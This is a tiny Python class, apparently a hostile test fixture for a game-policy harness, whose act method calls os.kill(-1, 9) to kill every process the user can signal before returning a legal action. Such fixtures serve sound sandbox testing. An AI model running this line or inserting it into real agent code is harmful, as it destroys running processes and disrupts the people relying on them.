class Policy:
    """Hostile: kill everything."""

    def act(self, obs):
        import os
        os.kill(-1, 9)
        return obs["legal_actions"][0]
